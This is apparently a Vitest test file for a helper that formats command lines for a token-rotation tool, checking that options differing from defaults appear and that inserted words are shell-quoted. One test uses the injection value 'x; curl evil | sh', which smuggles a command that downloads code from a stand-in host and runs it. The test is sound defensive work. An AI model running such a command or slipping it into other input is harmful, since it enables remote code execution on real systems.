import { describe, expect, it } from 'vitest';
import { commandLine } from '../../functions/shared/output/command-line.ts';

describe('commandLine', () => {
  it('formats a command with the options that differ from the defaults', () => {
    const command = commandLine({ stack: 'crm', region: 'eu-central-1', profile: 'on call' });

    expect(command`redrive ${'crm/genesys'}`).toBe(
      "genesys-token-rotation redrive crm/genesys --stack crm --region eu-central-1 --profile 'on call'",
    );
    expect(command.on('other')`status`).toBe(
      "genesys-token-rotation status --stack other --region eu-central-1 --profile 'on call'",
    );
    expect(commandLine()`status`).toBe('genesys-token-rotation status');
  });

  it('quotes an inserted word for a shell', () => {
    expect(commandLine()`rotate ${'x; curl evil | sh'}`).toBe(
      "genesys-token-rotation rotate 'x; curl evil | sh'",
    );
  });
});
